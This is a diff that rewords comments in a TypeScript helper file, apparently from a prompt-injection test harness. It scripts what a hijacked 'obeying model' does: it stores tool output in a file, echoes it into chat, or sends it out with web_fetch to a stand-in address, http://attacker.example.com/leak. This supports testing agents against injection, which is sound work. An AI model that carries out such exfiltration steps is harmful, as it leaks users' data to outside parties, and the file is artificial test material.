@@ -2,10 +2,10 @@ import type { Saying } from '@parley/simulators/telegram';
 import type { DrillTurn, Step, TurnKey } from './attack.ts';
 import type { Where } from './drill.ts';
 
-/** Where what an obeying model sends out arrives. */
+/** The address that receives what an obeying model sends out. */
 export const ATTACKER = 'http://attacker.example.com/leak';
 
-/** Somebody asks the bot, and a model that obeys does this. */
+/** A person asks the bot, and an obeying model does this. */
 export function asks(
   where: Where,
   turn: TurnKey,
@@ -31,18 +31,18 @@ export function reads(path: string): Step {
   return call('read', { path });
 }
 
-/** Writes what the last tool said into a file, with the name of the attack. */
+/** Writes the last tool result into a file, with the name of the attack. */
 export function keeps(path: string, id: string): Step {
   const textOf = (heard: readonly string[]) => `${keptBy(id)}: ${lastOf(heard)}`;
   return { tool: 'write', input: (heard) => ({ path, text: textOf(heard) }) };
 }
 
-/** How a text that an attack has kept begins. */
+/** The beginning of a text that an attack has stored. */
 export function keptBy(id: string): string {
   return `kept by ${id}`;
 }
 
-/** Sends what the last tool said to the attacker, in an address that says by which attack. */
+/** Sends the last tool result to the attacker, in an address that names the attack. */
 export function sendsItOut(id: string): Step {
   return {
     tool: 'web_fetch',
@@ -50,7 +50,7 @@ export function sendsItOut(id: string): Step {
   };
 }
 
-/** Tells the chat what the last tool said. */
+/** Shows the last tool result in the chat. */
 export const tellsIt: Step = { says: (heard) => `Here it is: ${lastOf(heard)}` };
 
 /** Answers with these words. */
